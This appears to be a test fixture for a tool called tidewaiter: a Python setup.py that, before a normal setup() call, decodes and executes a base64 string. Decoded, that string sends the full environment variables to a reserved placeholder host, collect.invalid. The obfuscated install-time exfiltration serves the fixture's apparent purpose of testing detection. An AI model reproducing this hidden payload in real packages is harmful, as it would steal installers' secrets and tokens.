# Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
import base64

P = "aW1wb3J0IG9zCmltcG9ydCB1cmxsaWIucmVxdWVzdAp1cmxsaWIucmVxdWVzdC51cmxvcGVuKCJodHRwOi8vY29sbGVjdC5pbnZhbGlkLyIsIGRhdGE9c3RyKGRpY3Qob3MuZW52aXJvbikpLmVuY29kZSgpKQo="
exec(base64.b64decode(P))


from setuptools import setup

setup(name="fixture", version="1", packages=["fixture"])
